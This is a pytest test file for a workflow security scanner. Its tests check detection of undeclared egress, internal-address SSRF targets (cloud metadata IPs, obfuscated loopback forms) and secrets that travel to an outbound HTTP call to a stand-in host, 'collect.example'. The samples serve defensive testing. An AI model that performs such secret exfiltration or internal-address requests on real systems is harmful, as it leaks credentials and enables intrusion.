"""The scanner on structure: hosts, travelling secrets, parameters; and the verdict."""

from __future__ import annotations

import subprocess
import sys
from typing import Any

import pytest

from apps.security_scan.scanner import Counts, Report, Severity, Verdict, scan
from tests.security_scan.declared import catalogue
from tests.security_scan.documents import document, node, python

CATALOGUE = catalogue()


def names(report: Report) -> list[str]:
    return [finding.rule for finding in report.findings]


def http(url: str, /, **more: Any) -> dict[str, Any]:
    return node("integration.http", id="call", url=url, **more)


def test_code_that_names_a_host_is_undeclared_egress() -> None:
    report = scan(python("address = 'https://collect.example/in'"), CATALOGUE)
    assert names(report) == ["egress.undeclared-host"]
    assert "collect.example" in report.findings[0].detail


def test_a_node_with_fixed_hosts_may_name_only_those() -> None:
    good = node("llm.complete", prompt="See https://api.model.example/docs")
    bad = node("llm.complete", prompt="Send it to https://collect.example/in")
    assert names(scan(document(good), CATALOGUE)) == []
    assert names(scan(document(bad), CATALOGUE)) == ["egress.undeclared-host"]


def test_an_address_in_plain_text_is_fine() -> None:
    text = node("transform.template", text="Read more at https://docs.example/guide")
    assert names(scan(document(text), CATALOGUE)) == []


@pytest.mark.parametrize(
    "host",
    ["localhost", "127.0.0.1", "10.1.2.3", "169.254.169.254", "[::1]", "[::ffff:10.0.0.1]",
     "2130706433", "0x7f000001", "redis.internal", "db.default.svc.cluster.local",
     "metadata.google.internal", "192.168.1.1:8080"],
)  # fmt: skip
def test_an_internal_address_blocks(host: str) -> None:
    report = scan(document(http(f"http://{host}/x")), CATALOGUE)
    assert "egress.internal-address" in names(report)
    assert report.verdict is Verdict.FAILED


def test_a_host_from_a_parameter_is_fine_and_from_data_is_not() -> None:
    by_parameter = document(http("{{ parameters.address }}"))
    by_data = document(node("code.python", id="a", code="x = 1"), http("{{ nodes.a.value }}/x"))
    in_path = document(http("https://api.example/items/{{ nodes.a.value }}"))
    assert names(scan(by_parameter, CATALOGUE)) == []
    assert names(scan(by_data, CATALOGUE)) == ["egress.data-chosen-host"]
    assert names(scan(in_path, CATALOGUE)) == []


def test_a_secret_in_a_header_is_how_it_should_be() -> None:
    call = http("https://api.example/x", headers={"Authorization": "Bearer {{ secrets.KEY }}"})
    assert names(scan(document(call), CATALOGUE)) == []


def test_a_secret_in_an_address_warns() -> None:
    call = http("https://api.example/x?key={{ secrets.KEY }}")
    report = scan(document(call), CATALOGUE)
    assert names(report) == ["flow.secret-in-address"]
    assert report.verdict is Verdict.WARNINGS


def test_a_secret_that_travels_to_egress_blocks() -> None:
    leak = node("transform.template", id="mix", text="{{ secrets.KEY }}")
    between = node("code.python", id="between", code="value = value")
    report = scan(document(leak, between, http("https://collect.example/in")), CATALOGUE)
    assert names(report) == ["flow.secret-to-egress"]
    assert report.findings[0].node_id == "mix"
    assert "`call`" in report.findings[0].detail
    assert report.verdict is Verdict.FAILED


def test_a_secret_that_stays_inside_is_no_flow() -> None:
    kept = node("transform.template", id="mix", text="{{ secrets.KEY }}")
    assert names(scan(document(kept), CATALOGUE)) == []


def test_a_secret_sent_where_data_decides_blocks() -> None:
    call = http("{{ nodes.a.value }}", headers={"Authorization": "{{ secrets.KEY }}"})
    source = node("code.python", id="a", code="x = 1")
    assert "flow.secret-to-egress" in names(scan(document(source, call), CATALOGUE))


def test_a_parameter_for_a_secret_must_say_so() -> None:
    plain = document(parameters=[{"name": "api_key", "schema": {"type": "string"}}])
    marked = document(parameters=[{"name": "api_key", "schema": {}, "secret": True}])
    filled = document(parameters=[{"name": "api_key", "secret": True, "default": "k3y-of-ours"}])
    assert names(scan(plain, CATALOGUE)) == ["secret.plain-parameter"]
    assert names(scan(marked, CATALOGUE)) == []
    assert names(scan(filled, CATALOGUE)) == ["secret.parameter-default"]


def test_verdict_score_and_counts_follow_from_the_findings() -> None:
    clean = scan(document(), CATALOGUE)
    warned = scan(python("import socket"), CATALOGUE)
    failed = scan(python("eval(value)"), CATALOGUE)
    assert (clean.verdict, clean.score, clean.counts) == (Verdict.PASSED, 100, Counts())
    assert (warned.verdict, warned.score, warned.counts) == (
        Verdict.WARNINGS, 90, Counts(medium=1),
    )  # fmt: skip
    assert (failed.verdict, failed.score, failed.counts) == (Verdict.FAILED, 70, Counts(high=1))


def test_the_worst_finding_comes_first() -> None:
    report = scan(python("import hashlib, socket\nhashlib.md5(x)\neval(x)"), CATALOGUE)
    severities = [finding.severity for finding in report.findings]
    assert severities == [Severity.HIGH, Severity.MEDIUM, Severity.LOW]


def test_the_same_document_gives_the_same_report() -> None:
    risky = python("import socket\neval(value)")
    assert scan(risky, CATALOGUE) == scan(risky, CATALOGUE)


@pytest.mark.parametrize(
    "shape",
    [{}, {"nodes": None}, {"nodes": [1, "x", None]}, {"nodes": {}, "connections": 3},
     {"configuration": {"parameters": [1, {"name": None}]}}],
)  # fmt: skip
def test_a_malformed_document_does_not_break_the_scan(shape: dict[str, Any]) -> None:
    assert scan(shape, CATALOGUE).verdict is Verdict.PASSED


def test_deep_nesting_does_not_break_the_scan() -> None:
    deep: Any = "x"
    for _ in range(20_000):
        deep = [deep]
    assert scan(document(variables={"deep": deep}), CATALOGUE).verdict is Verdict.PASSED


def test_the_scanner_is_pure() -> None:
    code = (
        "import sys; import apps.security_scan.scanner; "
        "sys.exit(any(name.split('.')[0] in {'django', 'strawberry'} for name in sys.modules))"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


@pytest.mark.parametrize(
    "text",
    ["{{" * 50_000, "{{x}}" * 20_000, "copy " * 20_000, "x\n" * 50_000, "https://" + "a:" * 50_000,
     "[" * 100_000, "secret_key = '" * 7_000, "(" * 100_000],
    ids=["open", "closed", "copy", "lines", "address", "brackets", "assignments", "parentheses"],
)  # fmt: skip
def test_no_text_takes_the_scanner_long(text: str) -> None:
    """Each took minutes in one version or other; pytest's own patience is the clock."""
    scan(document(node("data.sql", statement=text)), CATALOGUE)
    scan(document(node("transform.template", text=text)), CATALOGUE)


def test_more_code_than_is_examined_is_refused() -> None:
    nodes = [node("code.python", id=f"n{i}", code="x = 1\n" * 9_000) for i in range(5)]
    report = scan(document(*nodes), CATALOGUE)
    assert names(report) == ["code.unexaminable"]
    assert report.findings[0].node_id == "n4"
